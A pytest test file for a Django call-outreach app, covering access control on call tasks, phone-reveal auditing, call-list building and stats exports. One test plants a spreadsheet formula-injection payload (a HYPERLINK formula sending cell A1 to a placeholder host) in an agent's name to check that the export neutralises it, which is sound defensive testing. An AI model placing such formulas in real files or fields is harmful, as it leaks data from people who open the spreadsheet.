"""The outreach pages through the test client: who may open what, the workspace's flow, the exports."""

import io
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from members.models import Membership, SavedSelection
from outreach.models import CallAttempt, CallList, CallTask, PhoneReveal, Script
from outreach.services import task_claim_next
from tests.members.factories import GroupFactory, MemberFactory, TagFactory

from .factories import build_list, make_agent

pytestmark = pytest.mark.django_db


@pytest.fixture
def listed(operator, agent):
    MemberFactory.create_batch(4, region="四川/成都")
    return build_list(by=operator, agents=[agent])


def login(client, user):
    client.force_login(user)
    return client


def test_the_agent_starts_calling_and_sees_the_full_number_only_on_their_task(client, agent, listed):
    login(client, agent)
    response = client.post(reverse("outreach:call-next"))
    task = CallTask.objects.get(status="calling")
    assert response.url == reverse("outreach:task", args=[task.pk])
    page = client.get(response.url)
    number = task.member.phone.removeprefix("+86")
    assert page.status_code == 200
    assert f'href="tel:{number}"' in page.text
    assert PhoneReveal.objects.filter(user=agent, task=task, action="view").count() == 1
    assert client.post(reverse("outreach:task-dial", args=[task.pk])).status_code == 204
    assert PhoneReveal.objects.filter(user=agent, task=task, action="dial").count() == 1


def test_another_agent_gets_403_on_the_task_its_phone_and_its_dial(client, agent, listed):
    task = task_claim_next(agent=agent)
    other = make_agent("eve")
    login(client, other)
    for name, method in (("outreach:task", "get"), ("outreach:task-dial", "post"), ("outreach:task-record", "post")):
        response = getattr(client, method)(reverse(name, args=[task.pk]), {"outcome": "declined"})
        assert response.status_code == 403, name
    assert not PhoneReveal.objects.exists()
    assert not CallAttempt.objects.exists()


@pytest.mark.parametrize("role", ["operator", "manager", "admin_user"])
def test_other_roles_cannot_open_an_agents_call(client, request, role, agent, listed):
    task = task_claim_next(agent=agent)
    login(client, request.getfixturevalue(role))
    assert client.get(reverse("outreach:task", args=[task.pk])).status_code == 403
    assert client.post(reverse("outreach:task-dial", args=[task.pk])).status_code == 403
    if role != "admin_user":  # an admin may work calls of their own
        assert client.get(reverse("outreach:my-calls")).status_code == 403


def test_recording_moves_on_to_the_next_call_and_a_bad_call_back_says_why(client, agent, listed):
    login(client, agent)
    client.post(reverse("outreach:call-next"))
    task = CallTask.objects.get(status="calling")
    response = client.post(reverse("outreach:task-record", args=[task.pk]), {"outcome": "callback"})
    assert response.status_code == 400
    assert "回拨" in response.text or "call back" in response.text.lower()
    later = (timezone.localtime() + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M")
    response = client.post(
        reverse("outreach:task-record", args=[task.pk]), {"outcome": "callback", "callback_at": later, "then": "next"}
    )
    following = CallTask.objects.get(status="calling")
    assert response.url == reverse("outreach:task", args=[following.pk])
    assert following.pk != task.pk


def test_accepting_when_every_group_is_full_says_so_and_records_nothing(client, operator, agent):
    MemberFactory(region="四川/成都")
    build_list(by=operator, agents=[agent], groups=[GroupFactory(capacity=1, name="满员群")])
    Membership.objects.create(member=MemberFactory(region="四川/绵阳"), group=CallList.objects.get().pool.get().group)
    login(client, agent)
    client.post(reverse("outreach:call-next"))
    task = CallTask.objects.get(status="calling")
    response = client.post(reverse("outreach:task-record", args=[task.pk]), {"outcome": "accepted"})
    assert response.status_code == 400
    assert "满员群 1/1" in response.text
    assert not CallAttempt.objects.exists()


def test_the_script_is_chosen_by_tags_and_filled_in(client, operator, agent):
    acne, wants = TagFactory(code="3", name="痘痘"), TagFactory(code="D", name="想解决痘痘")
    MemberFactory(region="四川/成都", name="王建国", store_name="康宁大药房", tags=[acne, wants])
    group = GroupFactory(name="成都VIP1群")
    Script.objects.create(name="通用", text="{name}您好")
    Script.objects.create(name="祛痘", text="{name}老板，{store}的祛痘专场，欢迎进{group}").tags.add(acne, wants)
    Script.objects.create(name="痘痘", text="只有痘痘").tags.add(acne)
    build_list(by=operator, agents=[agent], groups=[group])
    login(client, agent)
    page = client.get(client.post(reverse("outreach:call-next")).url)
    assert "王建国老板，康宁大药房的祛痘专场，欢迎进成都VIP1群" in page.text


def test_the_operator_builds_a_list_from_the_form(client, operator, agent):
    MemberFactory.create_batch(5, region="四川/成都")
    selection = SavedSelection.objects.create(name="成都", query="region=四川/成都")
    group = GroupFactory()
    login(client, operator)
    assert client.get(reverse("outreach:calllist-create")).status_code == 200
    data = {"name": "成都邀约", "selection": selection.pk, "groups": [group.pk], "split": "round_robin",
            "recent_days": 30, f"agent_{agent.pk}": "on", f"weight_{agent.pk}": 2}  # fmt: skip
    response = client.post(reverse("outreach:calllist-create"), data)
    call_list = CallList.objects.get()
    assert response.url == reverse("outreach:calllist-detail", args=[call_list.pk])
    assert call_list.tasks.filter(agent=agent).count() == 5
    assert client.get(response.url).status_code == 200
    response = client.post(reverse("outreach:calllist-create"), {**data, f"agent_{agent.pk}": ""})
    assert response.status_code == 400
    assert CallList.objects.count() == 1


def test_agents_cannot_build_or_see_lists_and_managers_read_the_audit(client, agent, manager, listed):
    login(client, agent)
    assert client.get(reverse("outreach:calllist-list")).status_code == 403
    assert client.get(reverse("outreach:calllist-create")).status_code == 403
    assert client.get(reverse("outreach:phone-audit")).status_code == 403
    login(client, manager)
    assert client.get(reverse("outreach:calllist-detail", args=[listed.pk])).status_code == 200
    assert client.get(reverse("outreach:calllist-create")).status_code == 403
    assert client.get(reverse("outreach:phone-audit")).status_code == 200


def test_the_stats_export_is_numbers_and_text_never_formulas(client, operator, agent, manager):
    evil = make_agent("evil")
    evil.first_name = '=HYPERLINK("http://x/?"&A1,"点")'
    evil.save()
    MemberFactory.create_batch(2, region="四川/成都")
    listed = build_list(by=operator, agents=[evil])
    client.force_login(evil)
    client.post(reverse("outreach:call-next"))
    task = CallTask.objects.get(status="calling")
    client.post(reverse("outreach:task-record", args=[task.pk]), {"outcome": "accepted", "then": "stop"})
    login(client, manager)
    response = client.get(reverse("outreach:calllist-export", args=[listed.pk]))
    rows = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0).to_python()
    assert rows[1][1].startswith("'=HYPERLINK")  # shown as text, apostrophed as every export does (core.spreadsheets) …
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # … never stored as a formula
    assert rows[-1][2:6] == [1, 1, 1, 0]
    assert rows[-1][6] == 1.0


def test_the_workspace_names_the_group_accepting_would_invite_to(client, operator, agent):
    MemberFactory(region="四川/绵阳")
    anywhere, mianyang = GroupFactory(region="四川", name="全省群"), GroupFactory(region="四川/绵阳", name="绵阳群")
    build_list(by=operator, agents=[agent], query="region=四川/绵阳", groups=[anywhere, mianyang])
    client.force_login(agent)
    page = client.get(client.post(reverse("outreach:call-next")).url)
    assert "绵阳群" in page.text
    assert "全省群" not in page.text
